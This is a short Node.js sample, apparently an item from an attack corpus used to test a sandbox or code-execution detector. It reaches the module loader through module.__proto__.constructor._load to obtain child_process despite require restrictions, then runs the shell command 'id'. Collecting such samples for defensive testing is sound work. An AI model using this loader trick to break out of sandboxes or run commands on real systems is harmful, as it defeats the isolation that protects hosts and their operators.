// corpus: attack class=process form=targeted
// module.__proto__.constructor._load is the module loader.
function main() {
  const cp = module.__proto__.constructor._load('child_process');
  return { out: cp.execSync('id').toString() };
}

module.exports = { main };
